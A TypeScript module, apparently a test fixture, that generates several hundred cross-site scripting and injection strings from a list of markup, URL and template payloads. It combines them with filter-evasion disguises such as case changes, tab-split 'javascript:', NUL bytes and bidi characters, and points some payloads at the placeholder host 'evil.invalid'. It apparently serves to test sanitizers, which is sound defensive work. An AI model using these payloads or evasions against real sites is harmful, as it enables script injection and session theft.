/** Texts that would run a script, or ask somebody for something, wherever they were taken for markup, an address or code. */

const run = "window.__pwn=1";
const away = "//evil.invalid/pwn";

/** With "$" where the script goes. */
const markup = [
  "<script>$</script>",
  "<script src=https:AWAY></script>",
  "</title><script>$</script>",
  "</textarea><script>$</script>",
  "</style><script>$</script>",
  "--><script>$</script>",
  "]]><script>$</script>",
  "<img src=x onerror=$>",
  "<img src=x onerror='$'",
  '"><img src=x onerror="$">',
  "'><img src=x onerror='$'>",
  "<img src=https:AWAY>",
  "<svg onload=$>",
  "<svg><script>$</script></svg>",
  "<svg><animate onbegin=$ attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=$>",
  "<noscript><p title='</noscript><img src=x onerror=$>'>",
  "<iframe srcdoc='<script>parent.$</script>'></iframe>",
  "<iframe src=javascript:parent.$></iframe>",
  "<object data=javascript:$></object>",
  "<embed src=https:AWAY>",
  "<link rel=stylesheet href=https:AWAY>",
  "<style>@import 'https:AWAY'</style>",
  "<div style='background:url(https:AWAY)'>",
  "<body onload=$>",
  "<input autofocus onfocus=$>",
  "<details open ontoggle=$>",
  "<video><source onerror=$></video>",
  "<audio src=x onerror=$>",
  "<marquee onstart=$>",
  "<a href=javascript:$>pwn</a>",
  "<form action=javascript:$><button>pwn",
  "<base href=https:AWAY>",
  "<meta http-equiv=refresh content='0;url=https:AWAY'>",
  "<template><script>$</script></template>",
  "<x onpointerenter=$ style=position:fixed;inset:0>pwn",
  "<select><style></select><img src=x onerror=$></style>",
  "javascript:$",
  "data:text/html,<script>$</script>",
  "vbscript:$",
  "https:AWAY",
  "{{constructor.constructor('$')()}}",
  "$" + "{$}",
  "';$;'",
  '";$;"',
  "`;$;`",
  "\\u003cscript\\u003e$\\u003c/script\\u003e",
  "&lt;script&gt;$&lt;/script&gt;",
  "![pwn](javascript:$)",
  "[pwn](javascript:$)",
] as const;

/** What people do to get such a text past those who look for it. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `新聞${text}𠮷`,
  (text) => text.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  (text) => text.replace(/(\w) (on\w+)=/g, "$1/$2\u000c="),
  (text) => text.replace(/javascript:/g, "java\tscript:").replace(/<script/g, "<script\t"),
  (text) => `\u202e${text}\u2066`,
  (text) => `${text}${text}`,
  (text) => text.replace(/</g, "<\u0000<"),
  (text) => `${text}\n${text.toLowerCase()}`,
];

/** More than three hundred, each another. */
export function hostileTexts(): string[] {
  const plain = markup.map((text) => text.replaceAll("$", run).replaceAll("AWAY", away));
  return [...new Set(plain.flatMap((text) => disguises.map((disguise) => disguise(text))))];
}
